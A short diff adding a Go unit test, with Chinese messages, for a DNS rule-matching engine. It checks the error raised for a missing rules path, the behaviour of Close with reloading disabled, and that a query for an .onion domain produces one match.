+func TestEngineNoReload(t *testing.T) {
+	if _, err := New(Config{Rules: []string{filepath.Join(t.TempDir(), "missing")}}); err == nil {
+		t.Fatal("规则路径不存在时应返回错误")
+	}
+	engine, err := New(Config{Rules: []string{repoRules}, ReloadInterval: -1})
+	if err != nil {
+		t.Fatal(err)
+	}
+	// 不检查规则文件变化时 Close 立即返回
+	engine.Close()
+	if matches := engine.Match(&model.DNSRecord{QueryName: "x.onion"}); len(matches) != 1 {
+		t.Errorf("命中 %+v", matches)
+	}
+}